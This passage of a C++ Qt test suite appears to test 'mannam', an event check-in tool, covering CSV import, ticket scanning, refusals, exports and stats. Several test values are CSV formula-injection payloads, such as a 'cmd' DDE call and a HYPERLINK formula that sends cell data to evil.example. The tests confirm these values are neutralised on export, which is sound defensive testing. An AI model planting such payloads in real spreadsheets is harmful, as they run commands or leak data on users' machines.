                   "김민지,minji@example.org,010-2222-3333,R-2\n"_s
                << u"이름,이메일,연락처,신청번호\n홍길동 (개명),hong2@example.org,010-9999-0000,R-1\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s
                << QStringList{u"김민지"_s, u"홍길동 (개명)"_s};
        QTest::addRow("external id before email")
                << u"이름,이메일,신청번호\nAlice,alice@example.org,R-1\nBob,bob@example.org,R-2\n"_s
                << u"이름,이메일,신청번호\nAlice Kim,bob@example.org,R-1\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s
                << QStringList{u"Alice Kim"_s, u"Bob"_s};
        QTest::addRow("by email, ignoring case")
                << u"Name,Email,Phone\nAda Lovelace,ada@example.org,010-1111-2222\n"_s
                << u"Name,Email,Phone\nAda King,ADA@Example.ORG,010-1111-9999\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s << QStringList{u"Ada King"_s};
        QTest::addRow("email before phone")
                << u"Name,Email,Phone\nA,a@example.org,010-1111-1111\nB,b@example.org,010-2222-2222\n"_s
                << u"Name,Email,Phone\nA2,a@example.org,010-2222-2222\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s << QStringList{u"A2"_s, u"B"_s};
        QTest::addRow("by phone, written differently")
                << u"이름,연락처\n이서준,010-5555-6666\n"_s
                << u"이름,연락처,소속\n이서준 (Seojun Lee),+82 10 5555 6666,만남랩\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s << QStringList{u"이서준 (Seojun Lee)"_s};
        QTest::addRow("same email, other external id: another ticket of one buyer")
                << u"이름,이메일,신청번호\n구매자,buyer@example.org,R-1\n"_s
                << u"이름,이메일,신청번호\n구매자,buyer@example.org,R-1\n동행인,buyer@example.org,R-2\n"_s
                << u"Added 1, updated 0, unchanged 1, skipped 0."_s << QStringList{u"구매자"_s, u"동행인"_s};
        QTest::addRow("nothing matches: a new person")
                << u"이름,이메일,연락처\n홍길동,hong@example.org,010-1234-5678\n"_s
                << u"이름,이메일,연락처\n홍길동,other@example.org,010-8765-4321\n"_s
                << u"Added 1, updated 0, unchanged 0, skipped 0."_s << QStringList{u"홍길동"_s, u"홍길동"_s};
    }

    void import_matchesExistingPeople()
    {
        QFETCH(QString, first);
        QFETCH(QString, second);
        QFETCH(QString, counts);
        QFETCH(QStringList, names);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run firstRun = importText(event, u"first.csv"_s, first.toUtf8());
        QVERIFY2(firstRun.exitCode == 0, firstRun.describe());
        const Run secondRun = importText(event, u"second.csv"_s, second.toUtf8());
        QVERIFY2(secondRun.exitCode == 0, secondRun.describe());
        QCOMPARE(countsLine(secondRun.out), counts);
        QCOMPARE(sortedNames(event), names);
    }

    void import_explicitMap_namesAColumnThatIsNotGuessed()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const QByteArray csv = u"배지에 적을 표기,메일\n김철수,kim@example.org\n"_s.toUtf8();

        const Run unmapped = importText(event, u"badge.csv"_s, csv);
        QVERIFY2(unmapped.exitCode == 5, unmapped.describe());
        QVERIFY2(unmapped.err.contains(u"No column holds the attendees' names"_s), unmapped.describe());

        const Run mapped = mannam({u"import"_s, event, path(u"badge.csv"_s), u"--map"_s, u"배지에 적을 표기=name"_s});
        QVERIFY2(mapped.exitCode == 0, mapped.describe());
        QVERIFY2(mapped.out.contains(u"배지에 적을 표기 → name"_s), mapped.describe());
        QCOMPARE(countsLine(mapped.out), u"Added 1, updated 0, unchanged 0, skipped 0."_s);
        QCOMPARE(sortedNames(event), QStringList({u"김철수"_s}));
    }

    // "참가자 성함" is recognised without help; --map to the same field changes nothing.
    void import_explicitMap_agreesWithAGuess()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run run = importText(event, u"form.csv"_s, u"참가자 성함,이메일\n김철수,kim@example.org\n"_s.toUtf8(),
                                   {u"--map"_s, u"참가자 성함=name"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"참가자 성함 → name"_s), run.describe());
        QCOMPARE(sortedNames(event), QStringList({u"김철수"_s}));
    }

    void import_badMap_data()
    {
        QTest::addColumn<QString>("mapping");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("message");
        // The column is checked against the file, so it is an input error (5), not bad arguments.
        QTest::addRow("no such column") << u"참가자=name"_s << 5 << u"The file has no column '참가자'"_s;
        // An unknown field is known before the file is read: bad arguments.
        QTest::addRow("no such field") << u"이름=nickname"_s << 3 << u"unknown field 'nickname' in --map"_s;
        QTest::addRow("no '='") << u"이름"_s << 3 << u"--map takes COLUMN=FIELD"_s;
        QTest::addRow("nothing before '='") << u"=name"_s << 3 << u"--map takes COLUMN=FIELD"_s;
    }

    void import_badMap()
    {
        QFETCH(QString, mapping);
        QFETCH(int, exitCode);
        QFETCH(QString, message);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const Run run = importText(event, u"people.csv"_s, u"이름,이메일\n김철수,kim@example.org\n"_s.toUtf8(),
                                   {u"--map"_s, mapping});
        QVERIFY2(run.exitCode == exitCode, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QCOMPARE(readBytes(event), before);
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 0);
    }

    void import_brokenInput_exitsFiveAndImportsNothing_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QStringList>("extra");
        QTest::addColumn<QStringList>("messages");

        QTest::addRow("unterminated quote at line 4")
                << u"이름,이메일\n김철수,kim@example.org\n이영희,lee@example.org\n\"박민수,park@example.org\n"
                   "최지우,choi@example.org\n"_s.toUtf8()
                << QStringList() << QStringList{u"nothing imported"_s, u"Line 4"_s, u"never closed"_s};
        QTest::addRow("more fields than the header")
                << u"이름,이메일\n김철수,kim@example.org\n이영희,lee@example.org,extra\n"_s.toUtf8()
                << QStringList() << QStringList{u"nothing imported"_s, u"Line 3"_s};
        QTest::addRow("no name column")
                << u"email,phone\nkim@example.org,010-1111-2222\n"_s.toUtf8() << QStringList()
                << QStringList{u"nothing imported"_s, u"No column holds the attendees' names"_s,
                               u"Columns: email, phone"_s};
        QTest::addRow("empty file") << QByteArray() << QStringList()
                                    << QStringList{u"nothing imported"_s, u"empty"_s};
        QTest::addRow("utf-8 file read as cp949")
                << u"이름,이메일\n김철수,kim@example.org\n"_s.toUtf8() << QStringList{u"--encoding"_s, u"cp949"_s}
                << QStringList{u"nothing imported"_s, u"Line 1"_s, u"not valid CP949"_s};
        QTest::addRow("binary, neither utf-8 nor cp949")
                << QByteArray("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xff\x80\x80", 20) << QStringList()
                << QStringList{u"nothing imported"_s};
    }

    void import_brokenInput_exitsFiveAndImportsNothing()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QStringList, extra);
        QFETCH(QStringList, messages);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);

        const Run run = importText(event, u"broken.csv"_s, bytes, extra);
        QVERIFY2(run.exitCode == 5, run.describe());
        for (const QString &message : messages)
            QVERIFY2(run.err.contains(message), qPrintable(message + u"\n"_s + QString::fromUtf8(run.describe())));
        QVERIFY(run.out.isEmpty());
        QCOMPARE(readBytes(event), before);
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 3);
    }

    void import_missingFiles_data()
    {
        QTest::addColumn<bool>("eventExists");
        QTest::addColumn<bool>("csvExists");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("message");
        QTest::addRow("no csv") << true << false << 5 << u"Cannot read"_s;
        QTest::addRow("no event file") << false << true << 4 << u"There is no event file"_s;
    }

    void import_missingFiles()
    {
        QFETCH(bool, eventExists);
        QFETCH(bool, csvExists);
        QFETCH(int, exitCode);
        QFETCH(QString, message);
        const QString event = eventExists ? newEvent() : path(u"missing.mannam"_s);
        QVERIFY(!event.isEmpty());
        const QString csv = path(u"people.csv"_s);
        if (csvExists)
            QVERIFY(writeBytes(csv, "이름\n김철수\n"));
        const Run run = mannam({u"import"_s, event, csv});
        QVERIFY2(run.exitCode == exitCode, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QCOMPARE(QFileInfo::exists(event), eventExists);
    }

    void import_reimport_leavesCheckInsUntouched()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 1"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, ticketCodeOf(event, u"김민지"_s), u"--desk"_s, u"Desk 2"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, ticketCodeOf(event, u"김민지"_s), u"--desk"_s, u"Desk 2"_s, u"--exit"_s})
                        .exitCode
                == 0);
        const Table scansBefore = exportTable(event, u"--scans"_s);
        QCOMPARE(scansBefore.rows.size(), 3);

        // The updated export changes 홍길동's phone and the ticket type of 김민지.
        const QString updated = AttendeesHeader
                + u"홍길동,hong@example.org,010-0000-1111,\"만남, 커뮤니티\",일반,R-1001\n"
                  "김민지,minji@example.org,01022223333,AI 스터디,Speaker,R-1002\n"_s;
        const Run run = importText(event, u"updated.csv"_s, updated.toUtf8());
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(countsLine(run.out), u"Added 0, updated 2, unchanged 0, skipped 0."_s);

        QCOMPARE(exportTable(event, u"--scans"_s).bytes, scansBefore.bytes);
        const QJsonObject stats = statsJson(event);
        QCOMPARE(stats.value(u"checked_in"_s).toInt(-1), 2);
        QCOMPARE(stats.value(u"inside"_s).toInt(-1), 1);
        const Table attendance = exportTable(event, u"--attendance"_s);
        const int row = attendance.rowOf(u"name"_s, u"홍길동"_s);
        QCOMPARE(attendance.cell(row, u"checked_in"_s), u"yes"_s);
        QCOMPARE(attendance.cell(row, u"desk"_s), u"Desk 1"_s);
        QCOMPARE(attendance.cell(row, u"ticket_code"_s), hong);

        const Run again = mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 3"_s});
        QVERIFY2(again.exitCode == 1 && again.out.contains(u"Desk 1"_s), again.describe());
    }

    // ---------------------------------------------------------------- checkin

    void checkin_firstScan_exitsZeroAndNamesPerson()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"checkin"_s, event, ticketCodeOf(event, u"홍길동"_s), u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"Admitted: 홍길동\n"_s);
    }

    void checkin_secondScan_exitsOneAndNamesFirstDesk()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s}).exitCode == 0);

        const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 2"_s});
        QVERIFY2(run.exitCode == 1, run.describe());
        static const QRegularExpression already(u"^Already checked in: 홍길동 at \\d\\d:\\d\\d(:\\d\\d)? at Desk 1\\n$"_s);
        QVERIFY2(already.match(run.out).hasMatch(), run.describe());
    }

    void checkin_exitThenEntry_welcomesBack()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"김민지"_s);
        const auto scan = [&](const QStringList &extra) {
            return mannam(QStringList{u"checkin"_s, event, code, u"--desk"_s, u"Door"_s} + extra);
        };

        const Run neverIn = scan({u"--exit"_s});
        QVERIFY2(neverIn.exitCode == 2 && neverIn.out.contains(u"has not checked in"_s), neverIn.describe());
        QVERIFY(scan({}).exitCode == 0);
        const Run out = scan({u"--exit"_s});
        QVERIFY2(out.exitCode == 0 && out.out == u"Exit recorded: 김민지\n"_s, out.describe());
        const Run outAgain = scan({u"--exit"_s});
        QVERIFY2(outAgain.exitCode == 1 && outAgain.out.startsWith(u"Already left: 김민지"_s), outAgain.describe());
        const Run back = scan({});
        QVERIFY2(back.exitCode == 0 && back.out == u"Welcome back: 김민지\n"_s, back.describe());
    }

    void checkin_refused_exitsTwoWithTheReason_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("reason");
        QTest::addRow("wrong check digit") << u"checkDigit"_s << u"check digit"_s;
        QTest::addRow("another event's code") << u"otherEvent"_s << u"another event"_s;
        QTest::addRow("unknown imported-style code") << u"unknownForeign"_s << u"not registered for this event"_s;
        QTest::addRow("unknown code of this event") << u"unknownOurs"_s << u"not registered for this event"_s;
        QTest::addRow("cancelled registration") << u"cancelled"_s << u"cancelled"_s;
        QTest::addRow("badge code at the door") << u"badge"_s << u"badge code"_s;
        QTest::addRow("garbage payload") << u"garbage"_s << u"not registered for this event"_s;
    }

    void checkin_refused_exitsTwoWithTheReason()
    {
        QFETCH(QString, kind);
        QFETCH(QString, reason);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"cancel.csv"_s,
                           u"이름,이메일,상태\n취소한사람,gone@example.org,취소\n"_s.toUtf8())
                        .exitCode
                == 0);
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QString tag = hong.left(TicketCode::TagLength);
        QCOMPARE(tag.size(), 4);

        QString code;
        if (kind == u"checkDigit") {
            code = hong;
            code.back() = QChar(u'0' + (code.back().digitValue() + 1) % 10);
        } else if (kind == u"otherEvent") {
            const QString otherTag = u"%1"_s.arg((tag.toInt() + 1) % 10000, 4, 10, QChar(u'0'));
            code = TicketCode::generate(otherTag, {});
        } else if (kind == u"unknownForeign") {
            code = u"FESTA-7731-QX"_s;
        } else if (kind == u"unknownOurs") {
            code = TicketCode::generate(tag, {});
        } else if (kind == u"cancelled") {
            code = ticketCodeOf(event, u"취소한사람"_s);
            QVERIFY(!code.isEmpty());
        } else if (kind == u"badge") {
            auto file = EventFile::open(event, Database::Access::ReadOnly);
            for (const Attendee &a : file->store().attendees()) {
                if (a.name == u"홍길동")
                    code = a.badgeCode;
            }
            QVERIFY(!code.isEmpty());
        } else if (kind == u"garbage") {
            code = u"=cmd|' /C calc'!A0\t"_s + QString(300, u'x');
        }

        const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 2, run.describe());
        QVERIFY2(run.out.startsWith(u"Refused: "_s) && run.out.contains(reason), run.describe());
        // Refused scans are logged but admit nobody.
        const QJsonObject stats = statsJson(event);
        QCOMPARE(stats.value(u"scans"_s).toInt(-1), 1);
        QCOMPARE(stats.value(u"checked_in"_s).toInt(-1), 0);
    }

    void checkin_codeTypedInGroups_admits_data()
    {
        QTest::addColumn<QString>("separator");
        QTest::addRow("spaces") << u" "_s;
        QTest::addRow("dashes") << u"-"_s;
    }

    void checkin_codeTypedInGroups_admits()
    {
        QFETCH(QString, separator);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        QCOMPARE(code.size(), TicketCode::Length);
        QString typed = u"  "_s;
        for (int i = 0; i < code.size(); i += 4)
            typed += (i > 0 ? separator : QString()) + code.mid(i, 4);
        typed += u' ';

        const Run run = mannam({u"checkin"_s, event, typed, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 0 && run.out == u"Admitted: 홍길동\n"_s, run.describe());
        QCOMPARE(exportTable(event, u"--scans"_s).cell(0, u"code"_s), code);
    }

    void checkin_importedPlatformCode_admits()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run import = importText(event, u"luma.csv"_s,
                                      u"name,email,QR code\nGrace Hopper,grace@example.org,LUMA-gst-8f3K2\n"_s.toUtf8());
        QVERIFY2(import.exitCode == 0 && import.out.contains(u"QR code → code"_s), import.describe());
        QCOMPARE(ticketCodeOf(event, u"Grace Hopper"_s), u"LUMA-gst-8f3K2"_s);

        const Run run = mannam({u"checkin"_s, event, u"LUMA-gst-8f3K2"_s, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 0 && run.out == u"Admitted: Grace Hopper\n"_s, run.describe());
    }

    void checkin_missingEventFile_exitsFour()
    {
        const QString event = path(u"nowhere.mannam"_s);
        const Run run = mannam({u"checkin"_s, event, u"1234"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"There is no event file at "_s + event), run.describe());
        QCOMPARE(folderListing(), QStringList());
    }

    void checkin_notAnEventFile_exitsFourAndLeavesItAlone_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addRow("a text file") << u"text"_s;
        QTest::addRow("an empty file") << u"empty"_s;
        QTest::addRow("another program's SQLite database") << u"sqlite"_s;
        QTest::addRow("a folder") << u"folder"_s;
    }

    void checkin_notAnEventFile_exitsFourAndLeavesItAlone()
    {
        QFETCH(QString, kind);
        const QString file = path(u"event.mannam"_s);
        if (kind == u"text") {
            QVERIFY(writeBytes(file, "이름,이메일\n김철수,kim@example.org\n"));
        } else if (kind == u"empty") {
            QVERIFY(writeBytes(file, QByteArray()));
        } else if (kind == u"folder") {
            QVERIFY(QDir(m_dir->path()).mkdir(u"event.mannam"_s));
        } else {
            const QString connection = u"foreign-sqlite"_s;
            {
                QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, connection);
                db.setDatabaseName(file);
                QVERIFY(db.open());
                QSqlQuery query(db);
                QVERIFY(query.exec(u"CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)"_s));
                QVERIFY(query.exec(u"INSERT INTO notes (text) VALUES ('hello')"_s));
                db.close();
            }
            QSqlDatabase::removeDatabase(connection);
        }
        const QByteArray before = readBytes(file);
        const QStringList listing = folderListing();

        const Run run = mannam({u"checkin"_s, file, u"1234"_s, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        const QString expected = kind == u"folder" ? u"cannot be read"_s : u"is not a Mannam event file"_s;
        QVERIFY2(run.err.contains(expected), run.describe());
        QCOMPARE(readBytes(file), before);
        QCOMPARE(folderListing(), listing);  // no -wal or -shm beside it
    }

    void checkin_readOnlyEventFile_exitsFourAndLeavesItAlone()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(QFile::setPermissions(event, QFile::ReadOwner | QFile::ReadGroup | QFile::ReadOther));
        const auto restore = qScopeGuard([&] {
            QFile::setPermissions(event, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther);
        });
        if (QFileInfo(event).isWritable())
            QSKIP("file permissions are not enforced for this user (running as root?): a 0444 file is writable");
        const QByteArray before = readBytes(event);

        const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"read-only"_s), run.describe());
        QCOMPARE(readBytes(event), before);
    }

    // Another program holds the write lock for longer than the busy timeout (3 s).
    void checkin_eventFileLockedByAnotherProgram_exitsFourAndLogsNothing()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        const QString connection = u"other-program"_s;
        {
            QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, connection);
            db.setDatabaseName(event);
            QVERIFY(db.open());
            QSqlQuery lock(db);
            QVERIFY(lock.exec(u"BEGIN IMMEDIATE"_s));

            const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
            QVERIFY2(run.exitCode == 4, run.describe());
            QVERIFY2(run.err.contains(u"locked by another program"_s), run.describe());
            QVERIFY(run.out.isEmpty());  // nothing said "admitted"
            QVERIFY(lock.exec(u"ROLLBACK"_s));
            lock.finish();
            db.close();
        }
        QSqlDatabase::removeDatabase(connection);
        QCOMPARE(statsJson(event).value(u"scans"_s).toInt(-1), 0);
        const Run after = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(after.exitCode == 0, after.describe());
    }

    // ---------------------------------------------------------------- export

    void export_attendance_oneRowPerAttendeeWithFirstCheckIn()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 2"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 2"_s, u"--exit"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 3"_s}).exitCode == 0);

        const QString out = path(u"attendance.csv"_s);
        const Run run = mannam({u"export"_s, event, u"--attendance"_s, out});
        QVERIFY2(run.exitCode == 0 && run.out.contains(u"Wrote "_s + out), run.describe());
        const QByteArray bytes = readBytes(out);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF" "name,"));
        QVERIFY(bytes.contains("\r\n"));  // RFC 4180 line ends

        const Table table = exportTable(event, u"--attendance"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header,
                 QStringList({u"name"_s, u"email"_s, u"phone"_s, u"affiliation"_s, u"ticket_type"_s, u"status"_s,
                              u"checked_in"_s, u"first_check_in"_s, u"desk"_s, u"source"_s, u"external_id"_s,
                              u"ticket_code"_s, u"consent"_s}));
        QCOMPARE(table.rows.size(), 3);
        for (const QStringList &row : table.rows)
            QCOMPARE(row.size(), table.header.size());
        QCOMPARE(table.column(u"checked_in"_s), QStringList({u"yes"_s, u"no"_s, u"no"_s}));
        // The first admission, not the re-entry: its desk, local time with the offset.
        QCOMPARE(table.cell(0, u"desk"_s), u"Desk 2"_s);
        const QString first = table.cell(0, u"first_check_in"_s);
        static const QRegularExpression iso(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\+09:00$"_s);
        QVERIFY2(iso.match(first).hasMatch(), qPrintable(first));
        const QDateTime at = QDateTime::fromString(first, Qt::ISODateWithMs);
        QVERIFY(at.isValid());
        QVERIFY(qAbs(at.secsTo(QDateTime::currentDateTimeUtc())) < 600);
        QCOMPARE(exportTable(event, u"--scans"_s).cell(0, u"time"_s), first);
        QCOMPARE(table.cell(1, u"first_check_in"_s), QString());
        QCOMPARE(table.cell(1, u"desk"_s), QString());
    }

    void export_scans_oneRowPerLogEntry()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        QString misread = hong;
        misread.back() = QChar(u'0' + (misread.back().digitValue() + 1) % 10);
        const QList<QStringList> scans = {
            {hong, u"Desk 1"_s}, {hong, u"Desk 2"_s}, {hong, u"Desk 2"_s, u"--exit"_s}, {misread, u"Desk 1"_s},
            {u"=1+1"_s, u"Desk 1"_s}};
        for (const QStringList &scan : scans) {
            QStringList arguments{u"checkin"_s, event, scan.at(0), u"--desk"_s, scan.at(1)};
            arguments << scan.mid(2);
            QVERIFY(mannam(arguments).finished);
        }

        const Table table = exportTable(event, u"--scans"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header, QStringList({u"id"_s, u"time"_s, u"time_utc"_s, u"desk"_s, u"action"_s, u"result"_s,
                                            u"code"_s, u"attendee"_s, u"undoes_id"_s, u"nonce"_s}));
        QCOMPARE(table.rows.size(), scans.size());
        QCOMPARE(table.column(u"result"_s), QStringList({u"admitted"_s, u"already_inside"_s, u"exited"_s,
                                                         u"invalid_code"_s, u"unknown_code"_s}));
        QCOMPARE(table.column(u"action"_s),
                 QStringList({u"entry"_s, u"entry"_s, u"exit"_s, u"entry"_s, u"entry"_s}));
        QCOMPARE(table.column(u"desk"_s),
                 QStringList({u"Desk 1"_s, u"Desk 2"_s, u"Desk 2"_s, u"Desk 1"_s, u"Desk 1"_s}));
        QCOMPARE(table.column(u"attendee"_s),
                 QStringList({u"홍길동"_s, u"홍길동"_s, u"홍길동"_s, QString(), QString()}));
        QCOMPARE(table.cell(3, u"code"_s), misread);
        QCOMPARE(table.cell(4, u"code"_s), u"'=1+1"_s);  // a scanned formula is neutralised too
        static const QRegularExpression local(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\+09:00$"_s);
        static const QRegularExpression utc(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z$"_s);
        QSet<QString> nonces;
        for (int r = 0; r < table.rows.size(); ++r) {
            QVERIFY2(local.match(table.cell(r, u"time"_s)).hasMatch(), qPrintable(table.cell(r, u"time"_s)));
            QVERIFY2(utc.match(table.cell(r, u"time_utc"_s)).hasMatch(), qPrintable(table.cell(r, u"time_utc"_s)));
            QCOMPARE(QDateTime::fromString(table.cell(r, u"time"_s), Qt::ISODateWithMs),
                     QDateTime::fromString(table.cell(r, u"time_utc"_s), Qt::ISODateWithMs));
            nonces.insert(table.cell(r, u"nonce"_s));
        }
        QCOMPARE(nonces.size(), scans.size());
    }

    void export_formulaLikeNames_areNeutralised_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addRow("=HYPERLINK") << u"=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")"_s;
        QTest::addRow("+") << u"+1+cmd|' /C calc'!A0"_s;
        QTest::addRow("-") << u"-2+3"_s;
        QTest::addRow("@") << u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
    }

    void export_formulaLikeNames_areNeutralised()
    {
        QFETCH(QString, name);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run import = importText(event, u"evil.csv"_s,
                                      (u"이름,이메일\n"_s + csvCell(name) + u",evil@example.org\n"_s).toUtf8());
        QVERIFY2(import.exitCode == 0, import.describe());
        const QString code = exportTable(event, u"--attendance"_s).cell(0, u"ticket_code"_s);
        QVERIFY(mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s}).exitCode == 0);

        QCOMPARE(exportTable(event, u"--attendance"_s).cell(0, u"name"_s), u'\'' + name);
        QCOMPARE(exportTable(event, u"--scans"_s).cell(0, u"attendee"_s), u'\'' + name);
    }

    void export_neitherOrBothFlags_exitsThree_data()
    {
        QTest::addColumn<QStringList>("flags");
        QTest::addRow("neither") << QStringList();
        QTest::addRow("both") << QStringList{u"--attendance"_s, u"--scans"_s};
        QTest::addRow("meetings and winners") << QStringList{u"--meetings"_s, u"--winners"_s};
        QTest::addRow("contacts and attendance") << QStringList{u"--contacts"_s, u"--attendance"_s};
    }

    void export_neitherOrBothFlags_exitsThree()
    {
        QFETCH(QStringList, flags);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString out = path(u"out.csv"_s);
        const Run run = mannam(QStringList{u"export"_s, event} + flags + QStringList{out});
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(u"choose one of --attendance, --scans, --meetings, --winners or --contacts"_s),
                 run.describe());
        QVERIFY(!QFileInfo::exists(out));
    }

    void export_unwritableOutput_exitsSix_data()
    {
        QTest::addColumn<QString>("output");
        QTest::addRow("folder that does not exist") << u"no/such/folder/out.csv"_s;
        QTest::addRow("path is a folder") << u"afolder"_s;
    }

    void export_unwritableOutput_exitsSix()
    {
        QFETCH(QString, output);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        QVERIFY(QDir(m_dir->path()).mkdir(u"afolder"_s));
        const QStringList listing = folderListing(Sidecars::Exclude);
        for (const QString &flag : {u"--attendance"_s, u"--scans"_s, u"--meetings"_s, u"--winners"_s,
                                    u"--contacts"_s}) {
            const Run run = mannam({u"export"_s, event, flag, path(output)});
            QVERIFY2(run.exitCode == 6, run.describe());
            QVERIFY2(run.err.contains(u"Cannot write"_s), run.describe());
            QCOMPARE(folderListing(Sidecars::Exclude), listing);
            QVERIFY(QDir(path(u"afolder"_s)).isEmpty());
        }
    }

    // A slip of the shell (`export event.mannam --scans event.mannam`) must not
    // replace the event with a CSV file.
    void export_ontoTheEventFileItself_refusesAndKeepsTheEvent()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const Run run = mannam({u"export"_s, event, u"--scans"_s, event});
        QVERIFY2(run.exitCode == 3 || run.exitCode == 6, run.describe());
        QCOMPARE(readBytes(event), before);
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 3);
    }

    void export_missingEventFile_exitsFour()
    {
        const Run run = mannam({u"export"_s, path(u"nowhere.mannam"_s), u"--scans"_s, path(u"out.csv"_s)});
        QVERIFY2(run.exitCode == 4 && run.err.contains(u"There is no event file"_s), run.describe());
        QVERIFY(!QFileInfo::exists(path(u"out.csv"_s)));
    }

    // ---------------------------------------------------------------- stats

    void stats_json_countsAfterScans()
    {
        const QString event = eventAfterAnEvening();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"stats"_s, event, u"--json"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QJsonParseError error;
        const QJsonDocument document = QJsonDocument::fromJson(run.out.toUtf8(), &error);
        QVERIFY2(error.error == QJsonParseError::NoError, qPrintable(error.errorString()));
        QVERIFY(document.isObject());
        const QJsonObject expected{{u"event"_s, u"AI 스터디 밋업"_s}, {u"registered"_s, 3}, {u"cancelled"_s, 1},
                                   {u"checked_in"_s, 2},  {u"inside"_s, 1},     {u"scans"_s, 6},
                                   {u"meetings"_s, 0},    {u"winners"_s, 0}};
        QCOMPARE(document.object(), expected);
    }

